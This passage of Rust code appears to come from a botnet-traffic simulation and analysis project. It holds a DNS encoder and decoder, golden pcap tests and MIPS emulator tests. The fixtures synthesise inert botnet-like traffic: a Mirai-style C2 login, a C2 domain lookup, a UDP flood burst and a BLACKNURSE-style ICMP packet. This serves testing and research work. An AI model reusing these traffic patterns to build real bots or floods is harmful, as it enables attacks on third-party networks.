impl fmt::Display for DomainName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A DNS message restricted to single-question A-record transactions.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DnsMessage {
    /// Transaction identifier.
    pub id: u16,
    /// True for responses, false for queries.
    pub is_response: bool,
    /// Response code (meaningful only when `is_response`).
    pub rcode: Rcode,
    /// The queried name.
    pub question: DomainName,
    /// A-record answers (empty for queries and NXDOMAIN responses).
    pub answers: Vec<(DomainName, Ipv4Addr, u32)>,
}

impl DnsMessage {
    /// Build an A query.
    pub fn query(id: u16, name: DomainName) -> Self {
        DnsMessage {
            id,
            is_response: false,
            rcode: Rcode::NoError,
            question: name,
            answers: Vec::new(),
        }
    }

    /// Build a response carrying the given addresses (TTL fixed at 300 s).
    pub fn answer(id: u16, name: DomainName, addrs: &[Ipv4Addr]) -> Self {
        DnsMessage {
            id,
            is_response: true,
            rcode: Rcode::NoError,
            question: name.clone(),
            answers: addrs.iter().map(|a| (name.clone(), *a, 300)).collect(),
        }
    }

    /// Build an NXDOMAIN response.
    pub fn nxdomain(id: u16, name: DomainName) -> Self {
        DnsMessage {
            id,
            is_response: true,
            rcode: Rcode::NxDomain,
            question: name,
            answers: Vec::new(),
        }
    }

    /// Build a SERVFAIL response (resolver-side failure; the name may or
    /// may not exist).
    pub fn servfail(id: u16, name: DomainName) -> Self {
        DnsMessage {
            id,
            is_response: true,
            rcode: Rcode::ServFail,
            question: name,
            answers: Vec::new(),
        }
    }

    /// Serialize to wire bytes (no compression).
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(64);
        out.extend_from_slice(&self.id.to_be_bytes());
        let mut flags: u16 = 0;
        if self.is_response {
            flags |= 0x8000; // QR
            flags |= 0x0400; // AA
        } else {
            flags |= 0x0100; // RD
        }
        flags |= self.rcode.to_bits();
        out.extend_from_slice(&flags.to_be_bytes());
        out.extend_from_slice(&1u16.to_be_bytes()); // QDCOUNT
        out.extend_from_slice(&(self.answers.len() as u16).to_be_bytes()); // ANCOUNT
        out.extend_from_slice(&0u16.to_be_bytes()); // NSCOUNT
        out.extend_from_slice(&0u16.to_be_bytes()); // ARCOUNT
        self.question.encode_into(&mut out);
        out.extend_from_slice(&1u16.to_be_bytes()); // QTYPE A
        out.extend_from_slice(&1u16.to_be_bytes()); // QCLASS IN
        for (name, addr, ttl) in &self.answers {
            name.encode_into(&mut out);
            out.extend_from_slice(&1u16.to_be_bytes()); // TYPE A
            out.extend_from_slice(&1u16.to_be_bytes()); // CLASS IN
            out.extend_from_slice(&ttl.to_be_bytes());
            out.extend_from_slice(&4u16.to_be_bytes()); // RDLENGTH
            out.extend_from_slice(&addr.octets());
        }
        out
    }

    /// Parse from wire bytes.
    pub fn decode(data: &[u8]) -> Result<Self, WireError> {
        if data.len() < 12 {
            return Err(WireError::Truncated {
                layer: "dns",
                needed: 12,
                got: data.len(),
            });
        }
        let id = u16::from_be_bytes([data[0], data[1]]);
        let flags = u16::from_be_bytes([data[2], data[3]]);
        let is_response = flags & 0x8000 != 0;
        let rcode = Rcode::from_bits(flags & 0x000f)?;
        let qdcount = u16::from_be_bytes([data[4], data[5]]);
        let ancount = u16::from_be_bytes([data[6], data[7]]);
        if qdcount != 1 {
            return Err(WireError::Unsupported {
                layer: "dns",
                what: "question count",
                value: u64::from(qdcount),
            });
        }
        let (question, mut pos) = DomainName::decode_from(data, 12)?;
        pos += 4; // QTYPE + QCLASS
        let mut answers = Vec::new();
        for _ in 0..ancount {
            let (name, after) = DomainName::decode_from(data, pos)?;
            pos = after;
            let fixed = data.get(pos..pos + 10).ok_or(WireError::Truncated {
                layer: "dns",
                needed: pos + 10,
                got: data.len(),
            })?;
            let rtype = u16::from_be_bytes([fixed[0], fixed[1]]);
            let ttl = u32::from_be_bytes([fixed[4], fixed[5], fixed[6], fixed[7]]);
            let rdlen = usize::from(u16::from_be_bytes([fixed[8], fixed[9]]));
            pos += 10;
            let rdata = data.get(pos..pos + rdlen).ok_or(WireError::Truncated {
                layer: "dns",
                needed: pos + rdlen,
                got: data.len(),
            })?;
            pos += rdlen;
            if rtype == 1 {
                if rdlen != 4 {
                    return Err(WireError::Malformed {
                        layer: "dns",
                        what: "A record rdlength",
                    });
                }
                answers.push((
                    name,
                    Ipv4Addr::new(rdata[0], rdata[1], rdata[2], rdata[3]),
                    ttl,
                ));
            }
            // Non-A records are skipped (the simulator never emits them).
        }
        Ok(DnsMessage {
            id,
            is_response,
            rcode,
            question,
            answers,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn query_roundtrip() {
        let q = DnsMessage::query(0xbeef, DomainName::new("cnc.example.com").unwrap());
        let m = DnsMessage::decode(&q.encode()).unwrap();
        assert_eq!(m, q);
        assert!(!m.is_response);
    }

    #[test]
    fn answer_roundtrip() {
        let name = DomainName::new("bot.evil.net").unwrap();
        let a = DnsMessage::answer(
            7,
            name,
            &[Ipv4Addr::new(1, 2, 3, 4), Ipv4Addr::new(5, 6, 7, 8)],
        );
        let m = DnsMessage::decode(&a.encode()).unwrap();
        assert_eq!(m.answers.len(), 2);
        assert_eq!(m.answers[0].1, Ipv4Addr::new(1, 2, 3, 4));
        assert_eq!(m.rcode, Rcode::NoError);
    }

    #[test]
    fn nxdomain_roundtrip() {
        let n = DnsMessage::nxdomain(9, DomainName::new("gone.example").unwrap());
        let m = DnsMessage::decode(&n.encode()).unwrap();
        assert_eq!(m.rcode, Rcode::NxDomain);
        assert!(m.answers.is_empty());
    }

    #[test]
    fn name_validation() {
        assert!(DomainName::new("").is_err());
        assert!(DomainName::new(&"a".repeat(64)).is_err());
        assert!(DomainName::new("ok.example.com.").is_ok());
        assert_eq!(
            DomainName::new("MiXeD.Example.COM").unwrap().as_str(),
            "mixed.example.com"
        );
    }

    #[test]
    fn compressed_answer_name_decoded() {
        // Hand-craft a response whose answer name is a pointer to offset 12.
        let q = DnsMessage::query(1, DomainName::new("c.example").unwrap());
        let mut bytes = q.encode();
        bytes[6..8].copy_from_slice(&1u16.to_be_bytes()); // ANCOUNT = 1
        bytes.extend_from_slice(&[0xc0, 12]); // pointer to question name
        bytes.extend_from_slice(&1u16.to_be_bytes()); // TYPE A
        bytes.extend_from_slice(&1u16.to_be_bytes()); // CLASS IN
        bytes.extend_from_slice(&60u32.to_be_bytes());
        bytes.extend_from_slice(&4u16.to_be_bytes());
        bytes.extend_from_slice(&[9, 9, 9, 9]);
        let m = DnsMessage::decode(&bytes).unwrap();
        assert_eq!(m.answers[0].0.as_str(), "c.example");
        assert_eq!(m.answers[0].1, Ipv4Addr::new(9, 9, 9, 9));
    }

    #[test]
    fn pointer_loop_rejected() {
        let q = DnsMessage::query(1, DomainName::new("c.example").unwrap());
        let mut bytes = q.encode();
        bytes[6..8].copy_from_slice(&1u16.to_be_bytes());
        let self_ptr = bytes.len() as u16;
        bytes.extend_from_slice(&[0xc0 | ((self_ptr >> 8) as u8 & 0x3f), self_ptr as u8]);
        assert!(DnsMessage::decode(&bytes).is_err());
    }

    #[test]
    fn truncated_header_rejected() {
        assert!(matches!(
            DnsMessage::decode(&[0; 5]).unwrap_err(),
            WireError::Truncated { layer: "dns", .. }
        ));
    }
}
