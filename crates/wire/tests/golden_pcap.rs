//! Golden pcap fixtures: checked-in captures that pin the wire format.
//!
//! Two properties are enforced for every fixture:
//!
//! 1. **Encoding is frozen** — re-encoding the canonical packet list
//!    produces exactly the committed bytes. Any change to header layout,
//!    checksum computation, MAC synthesis, or pcap framing fails here
//!    before it can silently alter every capture the pipeline writes.
//! 2. **Decode → re-encode is the identity** — parsing the committed
//!    bytes back into logical packets and serializing them again yields
//!    the same file, byte for byte.
//!
//! Regenerate after an *intentional* format change with:
//!
//! ```sh
//! MALNET_REGEN_GOLDEN=1 cargo test -p malnet-wire --test golden_pcap
//! ```
//!
//! and commit the updated fixtures together with the code change.

use std::net::Ipv4Addr;
use std::path::PathBuf;

use malnet_wire::dns::{DnsMessage, DomainName};
use malnet_wire::icmp::IcmpMessage;
use malnet_wire::packet::Packet;
use malnet_wire::pcap;
use malnet_wire::tcp::TcpFlags;

const BOT: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 2);
const C2: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 5);
const RESOLVER: Ipv4Addr = Ipv4Addr::new(9, 9, 9, 9);
const VICTIM: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 50);

fn fixture_path(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

/// A TCP session: handshake, Mirai-style login, ack, teardown.
fn tcp_session_packets() -> Vec<(u64, Packet)> {
    vec![
        (
            1_000_000,
            Packet::tcp(BOT, 40123, C2, 23, 100, 0, TcpFlags::SYN, vec![]),
        ),
        (
            1_050_000,
            Packet::tcp(C2, 23, BOT, 40123, 7000, 101, TcpFlags::SYN_ACK, vec![]),
        ),
        (
            1_100_000,
            Packet::tcp(BOT, 40123, C2, 23, 101, 7001, TcpFlags::ACK, vec![]),
        ),
        (
            1_200_000,
            Packet::tcp(
                BOT,
                40123,
                C2,
                23,
                101,
                7001,
                TcpFlags::PSH_ACK,
                vec![0x00, 0x00, 0x00, 0x01],
            ),
        ),
        (
            1_300_000,
            Packet::tcp(
                C2,
                23,
                BOT,
                40123,
                7001,
                105,
                TcpFlags::PSH_ACK,
                vec![0x00, 0x00],
            ),
        ),
        (
            1_400_000,
            Packet::tcp(BOT, 40123, C2, 23, 105, 7003, TcpFlags::FIN_ACK, vec![]),
        ),
    ]
}

/// A DNS lookup over UDP: query for a C2 domain and its A-record answer.
fn dns_lookup_packets() -> Vec<(u64, Packet)> {
    let name = DomainName::new("cnc.botnet.example").unwrap();
    let query = DnsMessage::query(0x4d61, name.clone());
    let answer = DnsMessage::answer(0x4d61, name, &[C2]);
    vec![
        (
            2_000_000,
            Packet::udp(BOT, 5353, RESOLVER, 53, query.encode()),
        ),
        (
            2_040_000,
            Packet::udp(RESOLVER, 53, BOT, 5353, answer.encode()),
        ),
    ]
}

/// ICMP traffic: an echo exchange plus a BLACKNURSE-style
/// destination-unreachable flood packet.
fn icmp_packets() -> Vec<(u64, Packet)> {
    vec![
        (
            3_000_000,
            Packet::icmp(
                BOT,
                VICTIM,
                IcmpMessage::EchoRequest {
                    ident: 0x77,
                    seq: 1,
                    payload: b"malnet-ping".to_vec(),
                },
            ),
        ),
        (
            3_060_000,
            Packet::icmp(
                VICTIM,
                BOT,
                IcmpMessage::EchoReply {
                    ident: 0x77,
                    seq: 1,
                    payload: b"malnet-ping".to_vec(),
                },
            ),
        ),
        (
            3_200_000,
            Packet::icmp(
                BOT,
                VICTIM,
                IcmpMessage::DestinationUnreachable {
                    code: 3,
                    payload: vec![0x45, 0x00, 0x00, 0x1c],
                },
            ),
        ),
    ]
}

/// A mixed capture resembling one contained sandbox run: DNS resolution,
/// C2 session, a UDP flood burst, and ICMP control traffic.
fn mixed_capture_packets() -> Vec<(u64, Packet)> {
    let mut pkts = dns_lookup_packets();
    pkts.extend(tcp_session_packets());
    for i in 0..4u64 {
        pkts.push((
            4_000_000 + i * 1_000,
            Packet::udp(BOT, 44000, VICTIM, 80, vec![0xAA; 64]),
        ));
    }
    pkts.extend(icmp_packets());
    pkts.sort_by_key(|(ts, _)| *ts);
    pkts
}

fn fixtures() -> Vec<(&'static str, Vec<(u64, Packet)>)> {
    vec![
        ("tcp_session.pcap", tcp_session_packets()),
        ("dns_lookup.pcap", dns_lookup_packets()),
        ("icmp_echo_unreachable.pcap", icmp_packets()),
        ("mixed_capture.pcap", mixed_capture_packets()),
    ]
}

fn check_or_regen(name: &str, packets: &[(u64, Packet)]) {
    let path = fixture_path(name);
    let encoded = pcap::to_bytes(packets);
    if std::env::var_os("MALNET_REGEN_GOLDEN").is_some() {
        std::fs::write(&path, &encoded).expect("write fixture");
        return;
    }
    let golden = std::fs::read(&path).unwrap_or_else(|e| {
        panic!("missing golden fixture {path:?} ({e}); regenerate with MALNET_REGEN_GOLDEN=1")
    });
    assert_eq!(
        encoded, golden,
        "{name}: encoding drifted from the committed golden bytes"
    );
}

/// Property 1: encoding the canonical packet lists reproduces the
/// committed fixture bytes exactly.
#[test]
fn encoding_matches_golden_fixtures() {
    for (name, packets) in fixtures() {
        check_or_regen(name, &packets);
    }
}

/// Property 2: decode → re-encode over each committed fixture is the
/// byte-level identity, and no frame is skipped as unparseable.
#[test]
fn golden_fixtures_roundtrip_byte_identical() {
    for (name, _) in fixtures() {
        let path = fixture_path(name);
        let Ok(golden) = std::fs::read(&path) else {
            // `encoding_matches_golden_fixtures` reports the missing
            // file; avoid double-failing during regeneration.
            continue;
        };
        let (parsed, skipped) = pcap::parse_capture(&golden).expect("fixture parses");
        assert_eq!(skipped, 0, "{name}: unparseable frames in fixture");
        assert!(!parsed.is_empty(), "{name}: empty fixture");
        let reencoded = pcap::to_bytes(&parsed);
        assert_eq!(
            reencoded, golden,
            "{name}: decode → re-encode is not the identity"
        );
    }
}

/// The logical packet lists also survive the round trip (header fields,
/// payloads, flags — not just bytes).
#[test]
fn golden_fixtures_parse_to_expected_packets() {
    for (name, packets) in fixtures() {
        let path = fixture_path(name);
        let Ok(golden) = std::fs::read(&path) else {
            continue;
        };
        let (parsed, _) = pcap::parse_capture(&golden).expect("fixture parses");
        assert_eq!(parsed, packets, "{name}: logical packets drifted");
    }
}
