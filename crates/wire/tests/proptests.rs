//! Property-based tests for the wire formats: arbitrary packets must
//! round-trip bit-exactly through Ethernet frames and pcap files, and the
//! checksums must bind the covered bytes.

use std::net::Ipv4Addr;

use proptest::prelude::*;

use malnet_wire::dns::{DnsMessage, DomainName};
use malnet_wire::icmp::IcmpMessage;
use malnet_wire::packet::{Packet, Transport};
use malnet_wire::pcap;
use malnet_wire::tcp::TcpFlags;

fn arb_ip() -> impl Strategy<Value = Ipv4Addr> {
    any::<u32>().prop_map(Ipv4Addr::from)
}

fn arb_payload() -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(any::<u8>(), 0..600)
}

fn arb_transport() -> impl Strategy<Value = Transport> {
    prop_oneof![
        (
            any::<u16>(),
            any::<u16>(),
            any::<u32>(),
            any::<u32>(),
            0u8..32,
            arb_payload()
        )
            .prop_map(|(sp, dp, seq, ack, flags, payload)| {
                Transport::Tcp {
                    header: malnet_wire::tcp::TcpHeader {
                        src_port: sp,
                        dst_port: dp,
                        seq,
                        ack,
                        flags: TcpFlags(flags),
                        window: 65535,
                    },
                    payload,
                }
            }),
        (any::<u16>(), any::<u16>(), arb_payload()).prop_map(|(sp, dp, payload)| {
            Transport::Udp {
                header: malnet_wire::udp::UdpHeader {
                    src_port: sp,
                    dst_port: dp,
                },
                payload,
            }
        }),
        (any::<u16>(), any::<u16>(), arb_payload()).prop_map(|(ident, seq, payload)| {
            Transport::Icmp(IcmpMessage::EchoRequest {
                ident,
                seq,
                payload,
            })
        }),
    ]
}

fn arb_packet() -> impl Strategy<Value = Packet> {
    (arb_ip(), arb_ip(), 1u8..=64, arb_transport()).prop_map(|(src, dst, ttl, transport)| Packet {
        src,
        dst,
        ttl,
        transport,
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn packet_roundtrips_through_frame(p in arb_packet()) {
        let q = Packet::decode_frame(&p.encode_frame()).unwrap();
        prop_assert_eq!(p, q);
    }

    #[test]
    fn flipping_any_payload_byte_fails_decode_or_changes_packet(
        p in arb_packet(),
        which in any::<prop::sample::Index>(),
    ) {
        let mut bytes = p.encode_frame();
        // Only corrupt past the Ethernet header: MACs are not checksummed.
        if bytes.len() > 14 {
            let i = 14 + which.index(bytes.len() - 14);
            bytes[i] ^= 0x01;
            match Packet::decode_frame(&bytes) {
                Err(_) => {},
                Ok(q) => prop_assert_ne!(p, q),
            }
        }
    }

    #[test]
    fn pcap_roundtrips_arbitrary_captures(
        pkts in proptest::collection::vec((any::<u32>().prop_map(u64::from), arb_packet()), 0..20)
    ) {
        let bytes = pcap::to_bytes(&pkts);
        let (parsed, skipped) = pcap::parse_capture(&bytes).unwrap();
        prop_assert_eq!(skipped, 0);
        prop_assert_eq!(parsed, pkts);
    }

    #[test]
    fn dns_names_roundtrip(labels in proptest::collection::vec("[a-z0-9]{1,20}", 1..5)) {
        let name = labels.join(".");
        let dn = DomainName::new(&name).unwrap();
        let msg = DnsMessage::query(42, dn.clone());
        let back = DnsMessage::decode(&msg.encode()).unwrap();
        prop_assert_eq!(back.question, dn);
    }

    #[test]
    fn dns_answers_roundtrip(
        labels in proptest::collection::vec("[a-z]{1,10}", 1..4),
        addrs in proptest::collection::vec(any::<u32>().prop_map(Ipv4Addr::from), 0..6),
        id in any::<u16>(),
    ) {
        let dn = DomainName::new(&labels.join(".")).unwrap();
        let msg = DnsMessage::answer(id, dn, &addrs);
        let back = DnsMessage::decode(&msg.encode()).unwrap();
        prop_assert_eq!(back.answers.len(), addrs.len());
        for (i, (_, a, _)) in back.answers.iter().enumerate() {
            prop_assert_eq!(*a, addrs[i]);
        }
    }

    #[test]
    fn decode_never_panics_on_garbage(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        let _ = Packet::decode_frame(&bytes);
        let _ = DnsMessage::decode(&bytes);
        let _ = IcmpMessage::decode(&bytes);
    }

    #[test]
    fn pcap_reader_never_panics_on_garbage(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let _ = pcap::parse_capture(&bytes);
    }

    /// Chaos-layer contract: a capture cut short mid-record (a sandbox
    /// killed mid-write, a truncated artifact download) must parse or
    /// error, never panic — and everything before the cut is kept.
    #[test]
    fn pcap_reader_tolerates_truncated_captures(
        pkts in proptest::collection::vec((any::<u32>().prop_map(u64::from), arb_packet()), 1..12),
        cut in any::<prop::sample::Index>(),
    ) {
        let bytes = pcap::to_bytes(&pkts);
        let keep = cut.index(bytes.len());
        if let Ok((parsed, _skipped)) = pcap::parse_capture(&bytes[..keep]) {
            prop_assert!(parsed.len() <= pkts.len());
            for (got, want) in parsed.iter().zip(pkts.iter()) {
                prop_assert_eq!(got, want);
            }
        }
    }

    /// Chaos-layer contract: a single flipped bit anywhere in a valid
    /// capture (storage rot, a corrupting link) must never panic the
    /// reader, whatever it does to the decoded packets.
    #[test]
    fn pcap_reader_tolerates_bit_flips(
        pkts in proptest::collection::vec((any::<u32>().prop_map(u64::from), arb_packet()), 1..12),
        which in any::<prop::sample::Index>(),
        bit in 0u8..8,
    ) {
        let mut bytes = pcap::to_bytes(&pkts);
        let i = which.index(bytes.len());
        bytes[i] ^= 1 << bit;
        let _ = pcap::parse_capture(&bytes);
    }
}
