//! Property tests: assembler/disassembler agreement, memory invariants,
//! and CPU arithmetic checked against a Rust reference model.

use proptest::prelude::*;

use malnet_mips::asm::{Assembler, Ins, Reg};
use malnet_mips::cpu::{Cpu, CpuError, STACK_SIZE, STACK_TOP};
use malnet_mips::dis;
use malnet_mips::elf::{ElfFile, ElfSegment, MAX_SEGMENT_MEMSZ};
use malnet_mips::mem::Memory;

fn reg_strategy() -> impl Strategy<Value = Reg> {
    // Avoid $zero as destination-interesting but allowed; keep full range.
    (0u8..32).prop_map(Reg)
}

fn alu_ins() -> impl Strategy<Value = Ins> {
    let r = reg_strategy;
    prop_oneof![
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Addu(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Subu(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::And(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Or(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Xor(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Nor(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Slt(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Sltu(a, b, c)),
        (r(), r(), 0u8..32).prop_map(|(a, b, s)| Ins::Sll(a, b, s)),
        (r(), r(), 0u8..32).prop_map(|(a, b, s)| Ins::Srl(a, b, s)),
        (r(), r(), 0u8..32).prop_map(|(a, b, s)| Ins::Sra(a, b, s)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, i)| Ins::Addiu(a, b, i)),
        (r(), r(), any::<u16>()).prop_map(|(a, b, i)| Ins::Andi(a, b, i)),
        (r(), r(), any::<u16>()).prop_map(|(a, b, i)| Ins::Ori(a, b, i)),
        (r(), r(), any::<u16>()).prop_map(|(a, b, i)| Ins::Xori(a, b, i)),
        (r(), any::<u16>()).prop_map(|(a, i)| Ins::Lui(a, i)),
    ]
}

/// The instruction subset `botgen::stub` actually emits (pseudos
/// included): what `malnet-xray`'s structured decoding must handle
/// losslessly. Branch/jump targets are absolute and word-aligned inside
/// a window the 16-bit branch offset always reaches.
fn stub_ins() -> impl Strategy<Value = Ins> {
    use malnet_mips::asm::Target;
    let r = reg_strategy;
    let t = || (0u32..1024).prop_map(|k| Target::Abs(0x0040_0000 + k * 4));
    prop_oneof![
        (r(), any::<u32>()).prop_map(|(a, v)| Ins::Li(a, v)),
        (r(), r()).prop_map(|(a, b)| Ins::Move(a, b)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, o)| Ins::Lw(a, b, o)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, o)| Ins::Lbu(a, b, o)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, o)| Ins::Sw(a, b, o)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, o)| Ins::Sh(a, b, o)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, o)| Ins::Sb(a, b, o)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Addu(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Subu(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::And(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Or(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Sltu(a, b, c)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, i)| Ins::Sltiu(a, b, i)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, i)| Ins::Addiu(a, b, i)),
        (r(), r(), any::<u16>()).prop_map(|(a, b, i)| Ins::Andi(a, b, i)),
        (r(), r(), 0u8..32).prop_map(|(a, b, s)| Ins::Sll(a, b, s)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Sllv(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Srlv(a, b, c)),
        (r(), r()).prop_map(|(a, b)| Ins::Multu(a, b)),
        (r(), r()).prop_map(|(a, b)| Ins::Divu(a, b)),
        r().prop_map(Ins::Mfhi),
        r().prop_map(Ins::Mflo),
        (r(), r(), t()).prop_map(|(a, b, t)| Ins::Beq(a, b, t)),
        (r(), r(), t()).prop_map(|(a, b, t)| Ins::Bne(a, b, t)),
        t().prop_map(Ins::B),
        t().prop_map(Ins::J),
        Just(Ins::Syscall),
        Just(Ins::Nop),
    ]
}

/// A small but fully-featured ELF (text + rodata payload + bss), the
/// shape `botgen` emits, for the malformed-input properties.
fn sample_elf(rodata: &[u8]) -> ElfFile {
    ElfFile {
        entry: 0x0040_0000,
        segments: vec![
            ElfSegment {
                vaddr: 0x0040_0000,
                data: vec![0x24, 0x02, 0x0f, 0xa1, 0x00, 0x00, 0x00, 0x0c],
                memsz: 8,
                writable: false,
                executable: true,
                name: ".text",
            },
            ElfSegment {
                vaddr: 0x1000_0000,
                data: rodata.to_vec(),
                memsz: rodata.len() as u32,
                writable: false,
                executable: false,
                name: ".rodata",
            },
            ElfSegment {
                vaddr: 0x2000_0000,
                data: vec![],
                memsz: 0x2000,
                writable: true,
                executable: false,
                name: ".bss",
            },
        ],
    }
}

/// A pure-Rust reference for the ALU subset.
fn reference_step(regs: &mut [u32; 32], ins: &Ins) {
    let g = |r: Reg| regs[r.0 as usize & 31];
    let result: Option<(Reg, u32)> = match ins {
        Ins::Addu(d, s, t) => Some((*d, g(*s).wrapping_add(g(*t)))),
        Ins::Subu(d, s, t) => Some((*d, g(*s).wrapping_sub(g(*t)))),
        Ins::And(d, s, t) => Some((*d, g(*s) & g(*t))),
        Ins::Or(d, s, t) => Some((*d, g(*s) | g(*t))),
        Ins::Xor(d, s, t) => Some((*d, g(*s) ^ g(*t))),
        Ins::Nor(d, s, t) => Some((*d, !(g(*s) | g(*t)))),
        Ins::Slt(d, s, t) => Some((*d, ((g(*s) as i32) < (g(*t) as i32)) as u32)),
        Ins::Sltu(d, s, t) => Some((*d, (g(*s) < g(*t)) as u32)),
        Ins::Sll(d, t, sh) => Some((*d, g(*t) << sh)),
        Ins::Srl(d, t, sh) => Some((*d, g(*t) >> sh)),
        Ins::Sra(d, t, sh) => Some((*d, ((g(*t) as i32) >> sh) as u32)),
        Ins::Addiu(t, s, i) => Some((*t, g(*s).wrapping_add(*i as i32 as u32))),
        Ins::Andi(t, s, i) => Some((*t, g(*s) & u32::from(*i))),
        Ins::Ori(t, s, i) => Some((*t, g(*s) | u32::from(*i))),
        Ins::Xori(t, s, i) => Some((*t, g(*s) ^ u32::from(*i))),
        Ins::Lui(t, i) => Some((*t, u32::from(*i) << 16)),
        _ => None,
    };
    if let Some((d, v)) = result {
        if d.0 & 31 != 0 {
            regs[d.0 as usize & 31] = v;
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// Arbitrary ALU sequences behave identically on the emulator and
    /// the reference model.
    #[test]
    fn emulator_matches_reference_alu(
        seed_regs in proptest::collection::vec(any::<u32>(), 31),
        program in proptest::collection::vec(alu_ins(), 1..40),
    ) {
        let base = 0x0040_0000;
        let mut a = Assembler::new(base);
        for ins in &program {
            a.ins(ins.clone());
        }
        a.ins(Ins::Break);
        let code = a.assemble().unwrap();
        let mut mem = Memory::new();
        mem.map(base, code, false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        let mut reference = [0u32; 32];
        for (i, v) in seed_regs.iter().enumerate() {
            cpu.set_reg(i as u8 + 1, *v);
            reference[i + 1] = *v;
        }
        reference[29] = cpu.reg(29); // $sp set by the loader
        loop {
            match cpu.step() {
                Ok(_) => {}
                Err(CpuError::Break { .. }) => break,
                Err(e) => return Err(TestCaseError::fail(format!("fault: {e}"))),
            }
        }
        for ins in &program {
            reference_step(&mut reference, ins);
        }
        for r in 0..32u8 {
            prop_assert_eq!(cpu.reg(r), reference[r as usize], "reg ${}", r);
        }
    }

    /// Everything the assembler emits, the disassembler names (no
    /// `.word` fallbacks), and instruction sizes add up.
    #[test]
    fn assembler_disassembler_agree(program in proptest::collection::vec(alu_ins(), 1..60)) {
        let mut a = Assembler::new(0x400000);
        let mut expected = 0;
        for ins in &program {
            expected += ins.size();
            a.ins(ins.clone());
        }
        let code = a.assemble().unwrap();
        prop_assert_eq!(code.len() as u32, expected);
        for line in dis::disassemble_all(&code, 0x400000) {
            prop_assert!(!line.contains(".word"), "{}", line);
        }
    }

    /// Memory round-trips arbitrary word writes and rejects everything
    /// out of bounds without panicking.
    #[test]
    fn memory_roundtrip_and_bounds(
        writes in proptest::collection::vec((0u32..1024, any::<u32>()), 1..50),
        probe in any::<u32>(),
    ) {
        let mut m = Memory::new();
        m.map(0x1000, vec![0; 4096], true);
        let mut shadow = std::collections::HashMap::new();
        for (off, v) in &writes {
            let addr = 0x1000 + off * 4;
            m.write_u32(addr, *v).unwrap();
            shadow.insert(addr, *v);
        }
        for (addr, v) in &shadow {
            prop_assert_eq!(m.read_u32(*addr).unwrap(), *v);
        }
        // Arbitrary probes never panic.
        let _ = m.read_u32(probe);
        let _ = m.read_u8(probe);
        let _ = m.read_u16(probe);
    }

    /// `asm → dis → asm` round trip over the instruction subset the
    /// `botgen::stub` interpreter is built from: every word the
    /// assembler emits decodes to a structured [`dis::Inst`] whose
    /// [`dis::Inst::to_ins`] lowering re-encodes to the *identical* word
    /// at the same pc. This pins the structured decoder (which
    /// `malnet-xray` builds CFGs and constant propagation on) against
    /// the assembler bit for bit.
    #[test]
    fn asm_dis_asm_roundtrip_on_stub_subset(
        program in proptest::collection::vec(stub_ins(), 1..48),
    ) {
        let base = 0x0040_0000;
        let mut a = Assembler::new(base);
        for ins in &program {
            a.ins(ins.clone());
        }
        let code = a.assemble().unwrap();
        for (k, c) in code.chunks_exact(4).enumerate() {
            let w = u32::from_be_bytes([c[0], c[1], c[2], c[3]]);
            let pc = base + 4 * k as u32;
            let inst = dis::decode(w, pc);
            prop_assert!(inst.known, "assembler emitted unknown word {w:#010x}");
            let lowered = inst.to_ins();
            prop_assert!(lowered.is_some(), "no lowering for {w:#010x}");
            let mut re = Assembler::new(pc);
            re.ins(lowered.unwrap());
            let bytes = re.assemble().unwrap();
            prop_assert_eq!(
                &bytes[..4], c,
                "re-encode mismatch for {:#010x} at {:#x}", w, pc
            );
            // The text disassembler must name it too (no `.word`).
            prop_assert!(!dis::disassemble(w, pc).starts_with(".word"));
        }
    }

    /// Truncating a well-formed ELF anywhere yields `Err` or a
    /// well-formed prefix parse — never a panic; cutting inside the
    /// header or program-header table must be rejected.
    #[test]
    fn elf_parse_survives_truncation(
        text in proptest::collection::vec(any::<u8>(), 0..256),
        cut in any::<prop::sample::Index>(),
    ) {
        let bytes = sample_elf(&text).write();
        let cut = cut.index(bytes.len() + 1);
        let res = ElfFile::parse(&bytes[..cut]);
        // Anything shorter than the header + ph table cannot parse.
        if cut < 52 {
            prop_assert_eq!(
                res.as_ref().unwrap_err(),
